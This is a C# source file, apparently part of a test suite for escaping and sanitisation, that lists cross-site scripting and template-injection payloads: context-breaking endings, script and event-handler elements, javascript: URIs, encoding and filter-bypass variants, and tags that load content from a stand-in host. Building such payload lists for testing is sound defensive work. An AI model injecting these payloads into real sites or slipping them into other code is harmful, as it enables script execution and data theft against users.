namespace Torture.Hostile.Contexts.Payloads;

/// <summary>Text that a browser would run, fetch or render as markup, for every place of a page.</summary>
internal static class MarkupPayloads
{
    private const int BreaksEach = 3;

    /// <summary>Closes the surrounding markup.</summary>
    private static readonly string[] Breaks =
    [
        "", "\">", "'>", "\"/>", "</title>", "</style>", "</script>", "</textarea>", "-->", "]]>", "</svg>", "</p></li></ol></main>", "'\"><!--", "\0", "<![CDATA[", "</noscript>", "--!>", "</template>",
        "</td></tr></table>", "</a>", "</code></pre>", "\r\n\r\n", "`>",
    ];

    private static readonly string[] Elements =
    [
        "<script>alert('xq')</script>", "<script src=//xq.example/x.js></script>", "<ScRiPt >alert('xq')</sCrIpT>", "<script/x>console.log('xq')</script\t>", "<img src=x onerror=alert('xq')>",
        "<img src=//xq.example/x.png>", "<img src=`x`onerror=alert('xq')>", "<img/src/onerror=alert('xq')>", "<svg onload=alert('xq')>", "<svg/onload=alert('xq')>", "<svg><script>alert('xq')</script></svg>",
        "<svg><animate onbegin=alert('xq') attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert('xq')><text y=9>xq</text></a></svg>", "<svg><use href=//xq.example/x.svg#x></svg>",
        "<iframe srcdoc=\"<script>parent.alert('xq')</script>\"></iframe>", "<iframe src=javascript:alert('xq')>", "<iframe src=//xq.example/>", "<body onload=alert('xq')>", "<details open ontoggle=alert('xq')>xq",
        "<video><source onerror=alert('xq')>", "<video src=//xq.example/x.mp4 autoplay></video>", "<audio src=x onerror=alert('xq')>", "<marquee onstart=alert('xq')>xq</marquee>",
        "<input autofocus onfocus=alert('xq')>", "<select autofocus onfocus=alert('xq')>", "<textarea autofocus onfocus=alert('xq')>", "<object data=javascript:alert('xq')></object>", "<object data=//xq.example/x.swf></object>",
        "<embed src=//xq.example/x.swf>", "<form action=//xq.example/><input type=submit value=xq></form>", "<form><button formaction=javascript:alert('xq')>xq", "<base href=//xq.example/>",
        "<meta http-equiv=refresh content=\"0;url=//xq.example/\">", "<meta http-equiv=Content-Security-Policy content=\"default-src *\">", "<link rel=stylesheet href=//xq.example/x.css>", "<link rel=prefetch href=//xq.example/x>",
        "<style>@import'//xq.example/x.css';body{display:none}</style>", "<a href=javascript:alert('xq')>xq</a>", "<a href=//xq.example/ ping=//xq.example/ping>xq</a>", "<a id=search name=count>xq</a>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert('xq')></style></mglyph></table></mtext></math>", "<math><maction actiontype=statusline xlink:href=javascript:alert('xq')>xq</maction></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert('xq')>\">", "<table background=//xq.example/x.png><td>xq", "<div style=\"background:url(//xq.example/x.png)\">xq</div>", "<div style=position:fixed;inset:0>xq</div>",
        "<x contenteditable onbeforeinput=alert('xq') autofocus tabindex=1 onfocus=alert('xq')>xq", "<template shadowrootmode=open><img src=x onerror=alert('xq')></template>", "<dialog open>xq</dialog>", "<plaintext>", "<xmp>",
        "<frameset onload=alert('xq')>", "<isindex type=image src=1 onerror=alert('xq')>", "<b>xq</b>", "<!--xq", "<?xq?>", "<!DOCTYPE xq>", "</body></html>", "<button popovertarget=xq onclick=alert('xq')>xq</button><div popover id=xq onbeforetoggle=alert('xq')>",
    ];

    private static readonly string[] Others =
    [
        "\" onmouseover=alert('xq') x=\"", "' onfocus=alert('xq') autofocus x='", "` onclick=alert('xq') ", " onpointerenter=alert('xq')", "\"autofocus/onfocus=\"alert('xq')", "\" style=\"animation:x\" onanimationstart=\"alert('xq')",
        "javascript:alert('xq')", "JaVaScRiPt:alert('xq')", "java\tscript:alert('xq')", "java\nscript:alert('xq')", "\u0001javascript:alert('xq')", "javascript&colon;alert('xq')", "&#106;avascript:alert('xq')",
        "data:text/html,<script>alert('xq')</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgneHEnKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)", "//xq.example/", "\\\\xq.example\\x", "https:xq.example", "blob:null/xq", "view-source:xq",
        "';alert('xq')//", "\";alert('xq');//", "\\';alert('xq')//", "</script><script>alert('xq')", "\\u0027;alert('xq')//", "`;alert('xq')//", "${alert('xq')}", "'-alert('xq')-'", "\u2028alert('xq')//", "<!--<script>",
        "{{constructor.constructor('alert(`xq`)')()}}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7%>", "*{7*7}", "@(7*7)", "[[${7*7}]]", "{% raw %}xq{% endraw %}", "{{=<% %>=}}", "{{{xq}}}", "$(xq)", "%{7*7}", "{0}", "{{", "}}", "{", "}",
        "}*{display:none}", "expression(alert('xq'))", "url(//xq.example/x)", "</style><style>*{display:none}", "\\3c script\\3e", "/**/}",
        "%3Cscript%3Ealert('xq')%3C/script%3E", "&lt;script&gt;alert('xq')&lt;/script&gt;", "&#60;script&#62;alert('xq')", "&#x3c;img src=x onerror=alert('xq')&#x3e;", "&LT;b&GT;xq", "&ltb&gtxq", "&amp;lt;b&amp;gt;", "&nbsp;&shy;&zwj;&NewLine;xq",
        "\\x3cscript\\x3ealert('xq')", "\\u003cscript\\u003ealert('xq')", "\uFF1Cscript\uFF1Ealert('xq')", "+ADw-script+AD4-alert('xq')", "\u2039script\u203A", "\u00BCscript\u00BE", "<\u200Bscript>alert('xq')", "<scr\0ipt>alert('xq')</scr\0ipt>",
        "<scr<script>ipt>alert('xq')</scr</script>ipt>", "<<script>alert('xq');//<</script>", "<img src=\"x\" onerror=\"&#97;lert('xq')\">", "<a href=\"jav&#x09;ascript:alert('xq')\">xq</a>", "< script>alert('xq')</ script>", "<", ">", "\"", "'", "&", "</", "<a", "&#", "&#x", "<!",
    ];

    public static IEnumerable<string> All => Broken.Concat(Others);

    /// <summary>Each element after some of these endings.</summary>
    private static IEnumerable<string> Broken => Elements.SelectMany((element, index) => Enumerable.Range(0, BreaksEach).Select(turn => Breaks[((index * BreaksEach) + (turn * 7)) % Breaks.Length] + element));
}
